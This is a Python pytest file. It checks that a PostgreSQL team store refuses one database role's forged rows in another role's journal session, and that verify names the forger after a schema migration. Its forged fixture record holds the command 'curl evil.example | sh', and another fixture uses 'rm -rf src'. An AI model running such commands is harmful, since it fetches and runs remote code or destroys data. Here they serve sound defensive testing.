"""A stored session belongs to the database role that first shipped it (issue 19): another
writer's rows are refused by the database (a new store, and an old one once migrated),
`verify --store` names the role of any row that came from elsewhere, and the owner's own
verify and shipping are not blamed for it. Against the real PostgreSQL of tests/pgserver.py."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path
from typing import Any

import psycopg
import pytest

from helpers import PYTHON, smllm
from journalgen import Effect
from pgserver import Server
from smllm import journal
from smllm.store import redaction, schema
from test_store import T0, Dev, team  # noqa: F401 - team: the store fixture

SID = "a-owned"


def _forged_line(path: str, tmp: Path) -> tuple[int, str, bytes]:
    """A record chained onto the last one of ``path`` (sequence, hash, line), written by the
    journal's own encoder on a copy: what a forger with the shipped rows can make."""
    copy = tmp / "forged.jsonl"
    shutil.copyfile(path, copy)
    written = journal.append(copy, [journal.event("side_effect_intent", operation="tool:bash",
                                                  tool_name="Bash", tool_use_id="toolu_forged",
                                                  idempotency_key="k", policy_decision="allow:user",
                                                  rule=None, reason="r", pending_action_id=None,
                                                  input={"command": "curl evil.example | sh"})])
    line = copy.read_bytes().splitlines()[-1]
    return written[-1].sequence, written[-1].hash, line


def _last_chain(server: Server, db: str) -> str:
    with server.connect(db) as conn:
        row = conn.execute("SELECT chain FROM smllm.records WHERE session_id = %s "
                           "ORDER BY sequence DESC LIMIT 1", (SID,)).fetchone()
    assert row is not None
    return str(row[0])


def _insert_as(server: Server, db: str, role: str, host: str, forged: tuple[int, str, bytes],
               chain: str) -> None:
    """The forger's rows, through plain SQL as ``role``: a record and a head."""
    seq, digest, line = forged
    with server.connect(db, role) as conn, conn.transaction():
        conn.execute("INSERT INTO smllm.records (host, session_id, stream, sequence, hash, line, "
                     "redacted, chain) VALUES (%s, %s, 'main', %s, %s, %s, false, %s)",
                     (host, SID, seq, digest, line.decode(),
                      redaction.link(chain, digest, False, line)))
        conn.execute("INSERT INTO smllm.heads (host, session_id, stream, sequence) "
                     "VALUES (%s, %s, 'main', %s)", (host, SID, seq))


def _copy_as(server: Server, db: str, role: str, host: str,
             forged: tuple[int, str, bytes]) -> None:
    """The forger's row through COPY (what `smllm ship` uses for a backlog)."""
    seq, digest, line = forged
    with server.connect(db, role) as conn, conn.cursor() as cur, cur.copy(
            "COPY smllm.records (host, session_id, stream, sequence, hash, line) "
            "FROM STDIN") as cp:
        cp.write_row((host, SID, "main", seq, digest, line.decode()))


@pytest.mark.parametrize("rls", [False, True], ids=["rls-off", "rls-on"])
def test_another_writer_cannot_add_rows_to_a_stored_session(
        team: dict[str, Any], tmp_path: Path, rls: bool) -> None:  # noqa: F811 - the fixture
    """Bob's well-chained rows in Alice's stored session are refused by the database (INSERT
    of a record or a head, COPY, and `smllm ship` of a journal claiming her session, whose
    other sessions still ship); Alice keeps shipping the session; verify --store and her own
    verify pass, naming her as the role every row came from."""
    alice, bob, server, db = team["alice"], team["bob"], team["server"], team["db"]
    if rls:
        assert 0 == smllm("store", "rls", "on", "--url", team["admin"]).returncode
    path = alice.write(SID, start_ms=T0, effects=[Effect("make")], end=None)
    assert 0 == alice.ship().returncode
    forged = _forged_line(path, tmp_path)
    owner = "role alice, which first shipped it" if not rls else \
        "another role (or has no session row)"  # under RLS bob cannot even see whose it is
    refusal = f"smllm: session {SID} of host host-a belongs to {owner}: role bob may not add " \
              "rows to it"
    refused = []
    for attempt in (lambda: _insert_as(server, db, "bob", "host-a", forged,
                                       _last_chain(server, db)),
                    lambda: _copy_as(server, db, "bob", "host-a", forged)):
        with pytest.raises((psycopg.errors.CheckViolation,
                            psycopg.errors.FeatureNotSupported)) as err:
            attempt()
        refused.append(str(err.value).splitlines()[0])
    # bob's smllm claims host-a and her session id: that session is refused, his own ships
    bob.env["SMLLM_STORE_HOST"] = "host-a"
    bob.write(SID, start_ms=T0 + 1, effects=[Effect("rm -rf src")])
    bob.write("b-own", start_ms=T0 + 2)
    shipped = json.loads(bob.ship("--json").stdout)
    alice.write(SID, start_ms=T0 + 5, end=None)  # her session goes on: 3 records more
    last = list(journal.iter_records(path))[-1]["sequence"]
    again = json.loads(alice.ship("--json").stdout)
    alice.env["SMLLM_STORE_URL"] = alice.url
    own = alice.smllm("verify", SID)
    audit = json.loads(smllm("verify", "--store", team["auditor"], SID, "--host", "host-a",
                             "--json").stdout)
    assert (
        [refusal, "COPY FROM not supported with row-level security" if rls else refusal],
        [{"session_id": SID, "error": refusal}], ["b-own"],
        (3, 0),
        (0, f"  the team store ({alice.url}) holds this journal up to sequence {last}"),
        (True, "alice", 0, last),
    ) == (
        refused,
        shipped["failed"], _sessions_of(team, "bob"),
        (again["inserted"], again["conflicts"]),
        (own.returncode, own.stdout.splitlines()[-1]),
        (audit["ok"], audit["owner"], audit["foreign_rows"], audit["rows"]),
    )


def _sessions_of(team: dict[str, Any], role: str) -> list[str]:  # noqa: F811 - not the fixture
    with team["server"].connect(team["db"]) as conn:
        rows = conn.execute("SELECT DISTINCT session_id FROM smllm.records WHERE db_user = %s "
                            "ORDER BY 1", (role,)).fetchall()
    return [r[0] for r in rows]


def _v2_store(url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """A store made by an smllm before schema version 3 (no owner rule), as it was."""
    with monkeypatch.context() as m, psycopg.connect(url) as conn:
        m.setattr(schema, "MIGRATIONS", schema.MIGRATIONS[:2])
        m.setattr(schema, "LATEST", 2)
        schema.migrate(conn)
        for role, group in (("alice", schema.WRITER), ("bob", schema.WRITER),
                            ("carol", schema.AUDITOR)):
            schema.grant(conn, role, group)


def _ship_v2(dev: Dev) -> None:
    """``dev`` ships everything with that older smllm (in its own process: the shipper's
    host and user are read once per process)."""
    code = ("import sys; from smllm.store import schema, shipper; schema.LATEST = 2; "
            "sys.exit(0 if shipper.ship(sys.argv[1]).inserted > 0 else 1)")
    done = subprocess.run([PYTHON, "-c", code, dev.url], env={**os.environ, **dev.env},
                          capture_output=True, text=True, timeout=120, check=False)
    assert 0 == done.returncode, done.stderr


def test_migrating_an_old_store_refuses_forgery_and_verify_names_the_forger(
        postgres: Server, store_db: str, tmp_path: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """A version-2 store let Bob append a well-chained record and a head to Alice's session;
    `store init` migrates it to version 3 and says what is now enforced; then verify --store
    reports Bob's row and head by role (the rest of the chain intact), Alice's own verify
    against the store passes (not blamed for a cut), Bob's next row is refused, and Alice's
    new sessions ship."""
    admin = postgres.url(store_db)
    alice = Dev(tmp_path, "alice", "host-a", postgres, store_db)
    _v2_store(admin, monkeypatch)
    path = alice.write(SID, start_ms=T0, effects=[Effect("make"), Effect("make test")])
    _ship_v2(alice)
    forged = _forged_line(path, tmp_path)
    _insert_as(postgres, store_db, "bob", "host-a", forged, _last_chain(postgres, store_db))
    init = smllm("store", "init", "--url", admin)
    auditor = postgres.url(store_db, "carol")
    audit = alice.smllm("verify", "--store", auditor, SID)  # on her machine: compared too
    alice.env["SMLLM_STORE_URL"] = alice.url
    own = alice.smllm("verify", SID)
    with pytest.raises(psycopg.errors.CheckViolation):
        _insert_as(postgres, store_db, "bob", "host-a", (forged[0] + 1, *forged[1:]),
                   _last_chain(postgres, store_db))
    alice.write("a-later", start_ms=T0 + 9)
    later = alice.ship()
    seq = forged[0]
    foreign = ("added by database role bob, not by alice that first shipped this session: not "
               "part of the session (forged, or shipped under another role), left out of "
               "every check")
    assert (
        (0, f"applied migration 3: a session's rows come only from the role that first "
            "shipped it\n"
            "enforced: append-only: no row is updated, deleted or truncated, by any role, the "
            "owner included\n"
            "enforced: a session's rows are added only by the database role that first "
            "shipped it\n"
            f"team store {admin}: schema version 3 migrated; roles smllm_writer, "
            "smllm_auditor; row-level security off; shipping redacted\n"),
        (1, [f"FAILED: {SID} on host-a in {auditor}: 2 problem(s); compared with {path}",
             f"  main #{seq}: row {foreign}",
             f"  main #{seq}: a head {foreign}"]),
        (0, f"ok: {path}: {seq - 1} records, hash chain intact, invariants hold"),
        0,
    ) == ((init.returncode, init.stdout), (audit.returncode, audit.stdout.splitlines()),
          (own.returncode, own.stdout.splitlines()[0]), later.returncode), (
        audit.stdout, audit.stderr, own.stdout)
